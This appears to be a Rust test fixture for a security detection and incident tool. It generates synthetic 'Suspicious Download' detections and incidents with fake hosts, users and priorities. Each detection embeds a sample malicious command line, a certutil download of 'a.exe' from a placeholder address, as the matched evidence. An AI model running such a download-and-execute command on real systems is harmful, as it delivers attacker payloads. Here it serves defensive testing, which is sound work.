//! Detections and incidents by their numbers: any two that differ differ in something that lists show.

use cresset_detect::{DetectionId, Level};
use cresset_event::{ObservableKind, Timestamp};
use cresset_picture::{Facts, Incident, IncidentId, Link, LinkKind, ObservedFact, Priority, PriorityClass, State};
use cresset_store::NewDetection;

/// When the first of them happened, in nanoseconds since 1970.
const BEGAN: i64 = 1_795_000_000_000_000_000;
const SECOND: i64 = 1_000_000_000;

/// Returns a number that looks like chance.
fn mixed(number: u64) -> u64 {
    let mut mixed = number.wrapping_add(0x9e37_79b9_7f4a_7c15);
    mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    mixed ^ (mixed >> 31)
}

fn id(number: u64) -> DetectionId {
    DetectionId::from_bytes((u128::from(mixed(number)) << 64 | u128::from(number)).to_be_bytes())
}

/// Returns a detection: of nine in ten the level is low or medium.
pub(crate) fn detection(number: u64) -> NewDetection {
    let chance = mixed(number);
    let level = [Level::Low, Level::Low, Level::Medium, Level::High, Level::Critical][(chance % 41 / 10) as usize];
    let at = Timestamp::from_nanos(BEGAN + (chance % 100_000) as i64 * SECOND);
    let host = format!("web{}.harbour.example", chance % 50);
    let address = format!("198.51.100.{}", chance % 250);
    let facts = Facts {
        id: id(number),
        time: at,
        arrived: at.saturating_add_nanos(SECOND),
        level,
        title: format!(
            "Suspicious Download By {} Number {number}",
            ["Certutil", "BITS", "cURL"][(chance % 3) as usize]
        ),
        cause: format!("rule-{}", chance % 20),
        tactics: vec!["Command And Control".into()],
        techniques: vec!["T1105".into()],
        host: Some(host),
        user: chance.is_multiple_of(2).then(|| format!("HARBOUR\\user{}", chance % 30)),
        process: Some(r"C:\Windows\System32\certutil.exe".into()),
        observables: vec![ObservedFact { kind: ObservableKind::Ipv4, value: address.clone(), is_ours: false }],
        matched: vec![("CommandLine".into(), Some(format!("certutil -urlcache -f http://{address}/a.exe")))],
    };
    NewDetection {
        facts,
        kind: "rule",
        retro: chance.is_multiple_of(10),
        incident: None,
        links: vec![Link { kind: LinkKind::Host, value: "web".into(), gap_nanos: 5, to: id(number / 2) }],
        withheld_by: chance.is_multiple_of(17).then(|| "exclusion-1".into()),
        detail: format!("{{\"number\":{number},\"command_line\":\"{}\"}}", "x".repeat(300)),
    }
}

/// Returns the incident that detection `number` opens.
pub(crate) fn incident(number: u64) -> Incident {
    let chance = mixed(number);
    let first = Timestamp::from_nanos(BEGAN + (chance % 100_000) as i64 * SECOND);
    let score = (chance % 101) as u8;
    Incident {
        id: IncidentId::of(id(number)),
        title: format!("Suspicious Download on web{} and {} More", chance % 50, number % 7),
        level: Level::ALL[(chance % 5) as usize],
        priority: Priority {
            score,
            class: PriorityClass::of(score),
            reasons: vec![("highest level".into(), score.into())],
        },
        first,
        last: first.saturating_add_nanos((chance % 977) as i64 * SECOND),
        aware_at: first.saturating_add_nanos(SECOND),
        detections: chance % 9 + 1,
        hosts: vec![format!("web{}", chance % 50)],
        hosts_more: 0,
        users: Vec::new(),
        users_more: 0,
        tactics: vec!["Command And Control".into()],
        tactics_more: 0,
        techniques: vec!["T1105".into()],
        techniques_more: 0,
        rules: vec![("Suspicious Download".into(), chance % 9 + 1)],
        rules_more: 0,
        state: State::ALL[(chance / 7 % 10) as usize],
        follows: Vec::new(),
        follows_more: 0,
    }
}
